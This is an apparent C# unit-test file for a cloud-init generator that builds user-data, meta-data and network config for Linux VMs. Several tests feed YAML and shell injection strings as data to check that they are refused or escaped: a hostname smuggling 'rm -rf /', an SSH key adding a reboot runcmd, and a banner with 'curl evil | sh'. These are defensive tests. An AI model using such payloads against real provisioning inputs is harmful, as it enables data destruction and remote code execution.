using System.Diagnostics;
using Portal.Domain.Library;
using Portal.Provisioning.Configuration;
using Portal.Testing;
using YamlDotNet.Core;
using YamlDotNet.RepresentationModel;
using static Portal.Provisioning.Tests.Configuration.Settings;

namespace Portal.Provisioning.Tests.Configuration;

public sealed class CloudInitGeneratorTests
{
    private static readonly ConfigurationGenerator Generator = ConfigurationGenerator.For(OsFamily.Linux)!;

    private static SoftwareConfiguration StaticWeb01(params ParameterSetting[] more) => Linux(
    [
        Value("hostname", "web01", ParameterType.Hostname),
        Value("domain", "example.com"),
        Value("ipAddress", "192.0.2.10", ParameterType.Ip),
        Value("prefixLength", "24", ParameterType.Int),
        Value("gateway", "192.0.2.1", ParameterType.Ip),
        Value("dns", "192.0.2.53, 192.0.2.54"),
        Value("macAddress", "52-54-00-AB-CD-EF"),
        Value("adminUser", "ops"),
        Secret("adminPassword", Password),
        Value("sshKeys", Key),
        Value("timeZone", "Europe/Paris"),
        .. more,
    ]);

    private static GeneratedConfiguration Generate(SoftwareConfiguration configuration, string instanceId = "i-0123456789")
    {
        var result = Generator.Generate(configuration, instanceId);
        Assert.True(result.IsValid, string.Join("; ", result.Errors.Select(e => $"{e.Field}: {e.Message}")));
        return result.Value;
    }

    private static YamlMappingNode UserData(GeneratedConfiguration configuration)
    {
        var text = configuration[CloudInitGenerator.UserDataFile].Content;
        Assert.StartsWith("#cloud-config\n", text, StringComparison.Ordinal);
        return Yaml.Parse(text);
    }

    [Fact]
    public void The_NoCloud_seed_is_user_data_meta_data_and_network_config_on_a_cidata_volume()
    {
        var configuration = Generate(StaticWeb01());

        Assert.Equal(
            ("user-data | meta-data | network-config", "cidata"),
            (string.Join(" | ", configuration.Files.Select(f => f.Name)), configuration.VolumeLabel));
    }

    [Fact]
    public void User_data_names_the_host_and_its_fqdn()
    {
        var userData = UserData(Generate(StaticWeb01()));

        Assert.Equal(("web01", "web01.example.com", "Europe/Paris"), (userData.Text("hostname"), userData.Text("fqdn"), userData.Text("timezone")));
    }

    [Fact]
    public void User_data_creates_the_admin_with_keys_an_unlocked_password_and_sudo()
    {
        var user = UserData(Generate(StaticWeb01())).At("users", 0);

        Assert.Equal(
            ("ops", "false", "ALL=(ALL) ALL", Key),
            (user.Text("name"), user.Text("lock_passwd"), user.Text("sudo"), user.TextList("ssh_authorized_keys")));
    }

    [Fact]
    public void The_password_is_a_sha512_crypt_hash_of_the_secret_never_the_secret()
    {
        var configuration = Generate(StaticWeb01());
        var hash = UserData(configuration).Text("users", 0, "passwd");

        // Re-hashing with the salt and rounds the hash carries gives the same hash only for the same password.
        var parts = hash.Split('$');
        Assert.Equal(hash, Sha512Crypt.Hash(Password, parts[3], int.Parse(parts[2]["rounds=".Length..], System.Globalization.CultureInfo.InvariantCulture)));
        Assert.DoesNotContain(Password, configuration[CloudInitGenerator.UserDataFile].Content, StringComparison.Ordinal);
    }

    [Fact]
    public void Password_logins_over_ssh_stay_off_when_there_is_a_key()
    {
        Assert.Equal("false", UserData(Generate(StaticWeb01())).Text("ssh_pwauth"));
    }

    [Fact]
    public void Without_a_password_the_account_is_locked_and_sudo_needs_none()
    {
        var user = UserData(Generate(Linux(Value("sshKeys", Key)))).At("users", 0);

        Assert.Equal(("true", "ALL=(ALL) NOPASSWD:ALL"), (user.Text("lock_passwd"), user.Text("sudo")));
    }

    [Fact]
    public void Meta_data_carries_the_instance_id_and_local_hostname()
    {
        var metaData = Yaml.Parse(Generate(StaticWeb01(), "i-42")[CloudInitGenerator.MetaDataFile].Content);

        Assert.Equal(("i-42", "web01"), (metaData.Text("instance-id"), metaData.Text("local-hostname")));
    }

    [Fact]
    public void A_static_address_becomes_version_2_network_config_on_the_card_with_that_mac()
    {
        var network = Yaml.Parse(Generate(StaticWeb01())[CloudInitGenerator.NetworkConfigFile].Content);
        var card = network.At("ethernets", "primary");

        Assert.Equal(
            ("2", "52:54:00:ab:cd:ef", "false", "192.0.2.10/24", "0.0.0.0/0", "192.0.2.1", "192.0.2.53 | 192.0.2.54", "example.com"),
            (network.Text("version"), card.Text("match", "macaddress"), card.Text("dhcp4"), card.TextList("addresses"),
                card.Text("routes", 0, "to"), card.Text("routes", 0, "via"), card.TextList("nameservers", "addresses"), card.TextList("nameservers", "search")));
    }

    [Fact]
    public void Dhcp_on_a_card_of_known_mac_is_written_for_that_card()
    {
        var card = Yaml.Parse(Generate(Linux(Value("sshKeys", Key), Value("macAddress", "52:54:00:AB:CD:01")))[CloudInitGenerator.NetworkConfigFile].Content)
            .At("ethernets", "primary");

        Assert.Equal(("52:54:00:ab:cd:01", "true"), (card.Text("match", "macaddress"), card.Text("dhcp4")));
    }

    [Fact]
    public void Dhcp_on_an_unknown_card_writes_no_network_config_so_cloud_inits_fallback_applies_on_every_renderer()
    {
        var configuration = Generate(Linux(Value("sshKeys", Key)));

        Assert.Equal(["user-data", "meta-data"], configuration.Files.Select(f => f.Name));
    }

    [Fact]
    public void A_static_ipv6_address_gets_its_gateway_as_gateway6_which_cloud_init_before_23_1_renders_right()
    {
        var card = Yaml.Parse(Generate(Linux(Value("ipAddress", "2001:db8::10/64"), Value("gateway", "2001:db8::1")))[CloudInitGenerator.NetworkConfigFile].Content)
            .At("ethernets", "primary");

        Assert.Equal(("2001:db8::10/64", "2001:db8::1"), (card.TextList("addresses"), card.Text("gateway6")));
        Assert.False(((YamlMappingNode)card).Children.ContainsKey(new YamlScalarNode("routes")), "no ::/0 route, which 22.4 renders as ::/64");
    }

    [Fact]
    public void A_message_of_the_day_is_written_to_etc_motd()
    {
        var files = UserData(Generate(Linux(Value("sshKeys", Key), Value("motd", "Built by the portal")))).At("write_files");

        var motd = Assert.Single(((YamlSequenceNode)files).Children.OfType<YamlMappingNode>(),
            f => f.Text("path") == "/etc/motd");
        Assert.Equal("Built by the portal\n", motd.Text("content"));
    }

    [Fact]
    public void Other_non_secret_parameters_are_written_to_the_parameters_file_and_nothing_else_is()
    {
        var configuration = Generate(StaticWeb01(Value("app.port", "8080", ParameterType.Int), Value("appMode", "blue"), Secret("dbPassword", "db-secret")));
        var file = UserData(configuration).At("write_files", 0);

        Assert.Equal(
            ("/etc/portal/parameters.env", "0644", "# Deployment parameters written by the portal (secrets are never written here).\napp_port='8080'\nappMode='blue'\n"),
            (file.Text("path"), file.Text("permissions"), file.Text("content")));
    }

    [Fact]
    public async Task The_parameters_file_gives_a_shell_each_value_exactly()
    {
        const string tricky = "it's $HOME `id` \"quoted\"\nsecond line: yes";
        var content = UserData(Generate(StaticWeb01(Value("banner", tricky)))).Text("write_files", 0, "content");
        using var folder = new TempDirectory();
        var path = Path.Combine(folder.Path, "parameters.env");
        await File.WriteAllTextAsync(path, content, TestContext.Current.CancellationToken);

        var startInfo = new ProcessStartInfo("sh") { RedirectStandardOutput = true, ArgumentList = { "-c", ". \"$1\"; printf '%s' \"$banner\"", "sh", path } };
        using var shell = Process.Start(startInfo)!;
        var output = await shell.StandardOutput.ReadToEndAsync(TestContext.Current.CancellationToken);
        await shell.WaitForExitAsync(TestContext.Current.CancellationToken);

        Assert.Equal(tricky, output);
    }

    [Fact]
    public void Parameters_that_would_share_a_variable_name_are_refused()
    {
        var result = Generator.Generate(Linux(Value("app.port", "1"), Value("app-port", "2")), "i-1");

        Assert.Contains(result.Errors, e => e.Field == "parameters.app-port");
    }

    [Fact]
    public void Well_known_parameters_are_read_case_insensitively_and_a_netmask_gives_the_prefix()
    {
        var identity = MachineIdentity.FromSettings(
            Linux(Value("HostName", "db02"), Value("IPADDRESS", "10.1.2.3"), Value("NetMask", "255.255.240.0"), Value("ADMINUSER", "dba")), "i-1").Value;

        Assert.Equal(("db02", "10.1.2.3/20", "dba"), (identity.Hostname, ((StaticNetwork)identity.Network).Cidr, identity.AdminUser));
    }

    [Fact]
    public void Missing_parameters_take_the_documented_defaults()
    {
        var identity = MachineIdentity.FromSettings(Linux(), "7f3a9c2e-51b4-4d0e-9a77-0c1d2e3f4a5b").Value;

        Assert.Equal(
            ("vm-7f3a9c2e51b4", MachineIdentity.DefaultLinuxAdmin, "Etc/UTC", true),
            (identity.Hostname, identity.AdminUser, identity.TimeZone, identity.Network is DhcpNetwork));
    }

    [Theory]
    [InlineData("netmask", "255.0.255.0")]
    [InlineData("gateway", "not-an-ip")]
    [InlineData("dns", "192.0.2.53, nameserver")]
    public void A_malformed_network_parameter_is_an_error_on_that_parameter(string name, string value)
    {
        List<ParameterSetting> settings = [Value("ipAddress", "10.0.0.5"), Value(name, value)];
        if (name != "netmask")
        {
            settings.Add(Value("prefixLength", "24"));
        }

        var result = MachineIdentity.FromSettings(Linux([.. settings]), "i-1");

        Assert.Equal([$"parameters.{name}"], result.Errors.Select(e => e.Field));
    }

    [Fact]
    public void A_static_address_without_prefix_or_netmask_is_refused()
    {
        var result = MachineIdentity.FromSettings(Linux(Value("ipAddress", "10.0.0.5")), "i-1");

        Assert.Equal(["parameters.prefixLength"], result.Errors.Select(e => e.Field));
    }

    [Theory]
    [InlineData("web01\nruncmd: [\"rm -rf /\"]")]
    [InlineData("web01: {x: 1}")]
    [InlineData("-web01")]
    [InlineData("web_01")]
    public void A_host_name_that_is_not_one_dns_label_is_refused(string hostname)
    {
        var result = Generator.Generate(Linux(Value("hostname", hostname)), "i-1");

        Assert.Equal(["parameters.hostname"], result.Errors.Select(e => e.Field));
    }

    [Fact]
    public void A_host_name_ending_in_a_line_break_is_refused()
    {
        // .NET's $ matches before a final line break; the patterns end in \z so that this cannot slip through.
        var identity = new MachineIdentity { Hostname = "web01\n", AdminUser = "ops", InstanceId = "i-1" };

        Assert.Equal(["parameters.hostname"], identity.Validate(OsFamily.Linux).Select(e => e.Field));
    }

    [Fact]
    public void A_key_with_a_line_break_is_refused_rather_than_split()
    {
        var identity = new MachineIdentity { Hostname = "web01", AdminUser = "ops", InstanceId = "i-1", SshPublicKeys = [Key + "\nruncmd: [reboot]"] };

        Assert.Equal(["parameters.sshKeys"], identity.Validate(OsFamily.Linux).Select(e => e.Field));
    }

    [Fact]
    public void Values_that_yaml_1_1_would_read_as_booleans_or_numbers_are_quoted()
    {
        // PyYAML, which cloud-init uses, reads a plain on as True and 0644 as the number 420.
        var text = Generate(Linux(Value("hostname", "on"), Value("sshKeys", Key)))[CloudInitGenerator.UserDataFile].Content;
        var userData = Yaml.Parse(text);

        Assert.Equal(
            (ScalarStyle.DoubleQuoted, ScalarStyle.DoubleQuoted),
            (((YamlScalarNode)userData.At("hostname")).Style, ((YamlScalarNode)userData.At("write_files", 0, "permissions")).Style));
    }

    [Fact]
    public void Text_that_looks_like_yaml_stays_inside_its_value()
    {
        const string banner = "x\n#cloud-config\nruncmd:\n  - [sh, -c, 'curl evil | sh']\n---\nusers: []";
        var key = $"{Key} ops@example.com: \"quoted\" # not a comment";
        var configuration = StaticWeb01(Value("banner", banner));
        var identity = MachineIdentity.FromSettings(configuration, "i-1").Value with { SshPublicKeys = [key] };

        var userData = Yaml.Parse(Generator.Generate(configuration, identity).Value[CloudInitGenerator.UserDataFile].Content);

        Assert.Equal(
            ("hostname | fqdn | manage_etc_hosts | timezone | users | ssh_pwauth | write_files", key, $"banner='{banner.Replace("'", @"'\''", StringComparison.Ordinal)}'\n"),
            (userData.Keys(), userData.Text("users", 0, "ssh_authorized_keys", 0), userData.Text("write_files", 0, "content").Split('\n', 2)[1]));
    }
}
